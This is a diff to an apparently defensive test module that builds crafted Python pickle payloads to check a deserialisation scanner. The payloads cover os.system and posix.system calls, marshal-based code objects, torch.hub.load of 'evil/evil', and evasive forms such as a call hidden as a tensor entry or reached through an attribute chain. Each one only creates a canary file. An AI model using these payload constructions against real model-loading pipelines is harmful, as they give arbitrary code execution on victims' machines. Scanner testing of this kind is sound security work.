@@ -10,6 +10,7 @@ import zipfile
 
 from trying import CANARY
 
+TENSOR = "embeddings.word_embeddings.weight"
 PYTHON = f"import os; open(os.environ['{CANARY}'], 'w').close()"
 SHELL = f'touch "${CANARY}"'
 
@@ -34,6 +35,7 @@ def calls():
     """Opcodes by words for what they call."""
     popen = b"(" + text("sh") + text("-c") + text(SHELL) + b"l"
     code = compile(PYTHON, "a", "exec")
+    module, ordered = b"(" + global_of("os", "path"), global_of("collections", "OrderedDict")
     return {
         "os.system": call("os", "system", SHELL),
         "posix.system": call("posix", "system", SHELL),
@@ -49,7 +51,7 @@ def calls():
         "code.interact": call("code", "InteractiveInterpreter.runsource", PYTHON),
         "pickle.loads": call("pickle", "loads", b"C" + bytes([len(inner := call("os", "getcwd") + b".")]) + inner),
         "functools.partial": call("functools", "partial", global_of("os", "system"), SHELL) + b")R",
-        "operator.methodcaller": call("operator", "methodcaller", "system", SHELL) + b"(" + global_of("os", "path") + b"tR",
+        "operator.methodcaller": call("operator", "methodcaller", "system", SHELL) + module + b"tR",
         "types.FunctionType": call("types", "FunctionType", call("marshal", "loads", marshalled(code)), b"}") + b")R",
         "torch.hub.load": call("torch.hub", "load", "evil/evil", "evil"),
         "torch.load": call("torch", "load", "payload.bin"),
@@ -59,13 +61,13 @@ def calls():
         "numpy.load": call("numpy", "load", "payload.npy"),
         "numpy.testing.runstring": call("numpy.testing._private.utils", "runstring", PYTHON, b"}"),
         "an instruction of old pickles": b"(" + text(SHELL) + b"ios\nsystem\n",
-        "an object with a state": global_of("collections", "OrderedDict") + b")R}" + text("a") + call("os", "system", SHELL) + b"sb",
+        "an object with a state": ordered + b")R}" + text("a") + call("os", "system", SHELL) + b"sb",
         "a call within a list": b"](" + call("os", "system", SHELL) + b"e",
-        "a call as a tensor": b"}" + text("embeddings.word_embeddings.weight") + call("os", "system", SHELL) + b"s",
+        "a call as a tensor": b"}" + text(TENSOR) + call("os", "system", SHELL) + b"s",
         "a stacked global": text("os") + text("system") + b"\x93(" + text(SHELL) + b"tR",
         "a method of a type": call("builtins", "getattr", global_of("builtins", "str"), "mro") + b")R",
         "a chain of attributes": b"\x80\x04" + text("os") + text("path.os.system") + b"\x93(" + text(SHELL) + b"tR",
-    }  # fmt: skip
+    }
 
 
 def marshalled(code):
